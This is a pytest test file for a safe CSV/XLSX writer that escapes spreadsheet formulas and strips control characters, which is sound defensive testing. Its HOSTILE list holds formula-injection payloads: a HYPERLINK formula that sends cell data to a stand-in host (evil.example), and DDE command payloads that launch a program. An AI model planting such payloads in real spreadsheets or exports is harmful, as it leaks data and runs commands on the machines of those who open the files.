"""The one safe tabular writer: no formula and no control character leaves in a CSV or XLSX."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core import tabular

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_become_text(text):
    assert tabular.safe_text(text).startswith("'")


@pytest.mark.parametrize("text", ["+66 2 141 7000", "-12.5", "0 2141 7000", "(02) 141-7000"])
def test_phone_numbers_and_figures_are_left_alone(text):
    assert tabular.safe_text(text) == text


def test_control_bidi_and_illegal_xml_characters_are_dropped_but_tab_and_newline_kept():
    text = "a\x00b\x01c\x1fd\x7fe\x85f\u202eg\u2066h\ufffei\tj\nk\rl"
    assert tabular.safe_text(text) == "abcdefghi\tj\nk\rl"


def test_a_control_character_cannot_hide_a_formula():
    assert tabular.safe_text("\x01=1+1") == "'=1+1"


def test_cells_longer_than_xlsx_allows_are_cut():
    assert len(tabular.safe_text("ก" * 40_000)) == tabular.XLSX_MAX_CELL


def test_numbers_dates_and_none_pass_through():
    row = [1, 2.5, Decimal("3.1"), True, None, dt.date(2026, 1, 2)]
    assert tabular.safe_row(row) == row


def _xlsx_cells(sheets):
    book = load_workbook(io.BytesIO(tabular.xlsx_bytes(sheets)))
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book}


def test_xlsx_with_hostile_text_opens_and_holds_no_formula():
    rows = [[text, "x\x01y", 5] for text in HOSTILE]
    cells = _xlsx_cells([tabular.Sheet("s", ["name", "other", "n"], rows)])["s"]
    assert cells[0] == ["name", "other", "n"]
    for row, text in zip(cells[1:], HOSTILE, strict=True):
        assert row[0] == "'" + text.lstrip("\t\r") or row[0].startswith("'")
        assert row[1] == "xy" and row[2] == 5
    book = load_workbook(io.BytesIO(tabular.xlsx_bytes([tabular.Sheet("s", ["a"], [["=1+1"]])])))
    assert book["s"]["A2"].data_type == "s"  # a string, never a formula ("f")


def test_xlsx_writes_dates_numbers_and_blank_cells():
    aware = dt.datetime(2026, 11, 30, 10, 0, tzinfo=dt.UTC)
    rows = [[dt.date(2026, 1, 2), aware, Decimal("1.5"), None, True, ""]]
    cells = _xlsx_cells([tabular.Sheet("s", list("abcdef"), rows)])["s"]
    assert cells[1][:5] == [dt.datetime(2026, 1, 2), dt.datetime(2026, 11, 30, 10), 1.5, None, True]


def test_sheet_titles_follow_excels_rules():
    taken: set[str] = set()
    assert tabular.sheet_title("a/b:c", taken) == "a b c"
    assert tabular.sheet_title("ก" * 40, taken) == "ก" * 31
    assert tabular.sheet_title("A B C", taken) == "A B C (2)"
    assert tabular.sheet_title("", taken) == "Sheet"


def test_csv_escapes_and_strips_and_keeps_rfc4180_line_ends():
    text = "".join(tabular.csv_chunks(["h"], [["=1+1"], ["a\x00b"]], bom=True))
    assert text.startswith("\ufeffh\r\n")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["h"], ["'=1+1"], ["ab"]]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
def test_any_text_makes_a_readable_workbook_without_formulas(texts):
    book = load_workbook(io.BytesIO(tabular.xlsx_bytes([tabular.Sheet("s", ["h"], [texts])])))
    for cell in book["s"][2]:
        assert cell.data_type != "f"
        value = cell.value
        # a formula start is escaped, unless the text is a plain number or phone number
        assert (
            value is None
            or value[0] not in "=+-@"
            or re.fullmatch(r"[+\-]?[0-9][0-9 ().+\-]*", value)
        )


# -- the streaming XLSX writer (ADR 0016) ---------------------------------------------------

_CELL_TEXT = st.text(
    st.one_of(
        st.sampled_from(list("=+-@\t\r\n \x00\x01\x1f\x7f\u202e\ufffe<>&\"'0123456789().")),
        st.characters(codec="utf-8"),
    ),
    max_size=12,
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(_CELL_TEXT, min_size=1, max_size=5), min_size=1, max_size=4))
def test_text_rows_read_back_exactly_as_safe_text_makes_them(rows):
    """The fast text path (a row joined, checked and escaped at once) gives exactly what the
    cell-by-cell rules give: the same cells in the same columns, CR, edge spaces and XML's
    special characters intact, a formula start escaped, an empty cell empty."""
    cells = _xlsx_cells([tabular.Sheet("s", ["h"], rows)])["s"][1:]
    for got, row in zip(cells, rows, strict=True):
        want = [tabular.safe_text(t) or None for t in row]
        assert got[: len(want)] == want
        assert all(v is None for v in got[len(want) :])


_MIXED_CELL = st.one_of(
    _CELL_TEXT,
    st.none(),
    st.integers(min_value=-(2**53), max_value=2**53),
    st.floats(allow_nan=False, allow_infinity=False, width=64),
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(_MIXED_CELL, min_size=1, max_size=6), min_size=1, max_size=4))
def test_rows_of_text_and_numbers_read_back_as_the_cell_by_cell_rules_give(rows):
    """Numbers and blanks among the texts stay on the fast path (cells without their
    optional reference) and land in their own columns, as values."""
    for values in rows:
        assert tabular._SheetXml(tabular.Sheet("s", [], [])).text_row(values, 2) is not None
    cells = _xlsx_cells([tabular.Sheet("s", ["h"], rows)])["s"][1:]
    for got, row in zip(cells, rows, strict=True):
        want = [(tabular.safe_text(v) or None) if isinstance(v, str) else v for v in row]
        assert got[: len(want)] == want
        assert all(v is None for v in got[len(want) :])


def test_long_cells_mixed_rows_and_lazy_strings_take_the_careful_path():
    from django.utils.functional import lazy

    lazy_text = lazy(lambda: "=lazy", str)()
    rows = [["ก" * 40_000, "x"], [lazy_text, 7], ["a\x00b", "c"], ["+1", "+1\n"]]
    cells = _xlsx_cells([tabular.Sheet("s", ["h1", "h2"], rows)])["s"]
    assert cells[1] == ["ก" * tabular.XLSX_MAX_CELL, "x"]
    assert cells[2] == ["'=lazy", 7]
    assert cells[3] == ["ab", "c"]
    assert cells[4] == ["+1", "'+1\n"]  # a plain number ends the cell, not before a newline


def test_xlsx_sheets_titles_styles_freeze_and_widths():
    sheets = [
        tabular.Sheet(
            "Figures & <totals>",
            ["name", "count"],
            [["a", 40_000], ["b", 2.5]],
            freeze=(1, 1),
            widths={0: 30},
            thousands=True,
        ),
        tabular.Sheet("Figures & <totals>", ["x"], [[dt.datetime(2026, 1, 2, 3, 4, 5)]]),
        tabular.Sheet("empty", ["only", "headers"], []),
    ]
    book = load_workbook(io.BytesIO(tabular.xlsx_bytes(sheets)))
    assert book.sheetnames == ["Figures & <totals>", "Figures & <totals> (2)", "empty"]
    first = book["Figures & <totals>"]
    assert first["A1"].font.b and first["B2"].value == 40_000
    assert first["B2"].number_format == "#,##0" and first["B3"].number_format == "General"
    assert first.freeze_panes == "B2"
    assert first.column_dimensions["A"].width == pytest.approx(30.7, abs=0.1)
    second = book["Figures & <totals> (2)"]
    assert second["A2"].value == dt.datetime(2026, 1, 2, 3, 4, 5)
    assert second["A2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert [[c.value for c in r] for r in book["empty"].iter_rows()] == [["only", "headers"]]


def test_xlsx_package_is_well_formed_open_xml():
    """The parts a spreadsheet program looks for, each well-formed XML, each related and
    typed; cells carry their own references, in order."""
    import zipfile
    from xml.etree import ElementTree

    data = tabular.xlsx_bytes([tabular.Sheet("s", ["a", "b"], [["x", ""], ["", "y"]])])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = set(z.namelist())
        assert {
            "[Content_Types].xml",
            "_rels/.rels",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/worksheets/sheet1.xml",
        } <= names
        parts = {name: ElementTree.fromstring(z.read(name)) for name in names}  # noqa: S314
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    refs = [c.get("r") for c in parts["xl/worksheets/sheet1.xml"].iter(f"{ns}c")]
    assert refs == ["A1", "B1", "A2", "B2", "A3", "B3"]
    types = parts["[Content_Types].xml"]
    overrides = {o.get("PartName") for o in types}
    assert "/xl/worksheets/sheet1.xml" in overrides and "/xl/workbook.xml" in overrides


def test_xlsx_writer_streams_with_flat_memory():
    """Peak Python memory for 20,000 rows is about that for 2,000: rows are not kept."""
    import tempfile
    import tracemalloc

    def peak(n):
        rows = ([f"name {i}", "ถนนพหลโยธิน", "+66 2 141 7000", str(i)] for i in range(n))
        with tempfile.TemporaryFile() as out:
            tracemalloc.start()
            tabular.xlsx_write([tabular.Sheet("s", ["a", "b", "c", "d"], rows)], out)
            _current, top = tracemalloc.get_traced_memory()
            tracemalloc.stop()
        return top

    assert peak(20_000) < peak(2_000) * 1.5 + 256 * 1024


def test_rows_may_be_any_iterable():
    rows = (iter([f"t{i}", i]) if i % 2 else (c for c in [f"t{i}", f"u{i}"]) for i in range(4))
    cells = _xlsx_cells([tabular.Sheet("s", ["a", "b"], rows)])["s"]
    assert cells[1:] == [["t0", "u0"], ["t1", 1], ["t2", "u2"], ["t3", 3]]
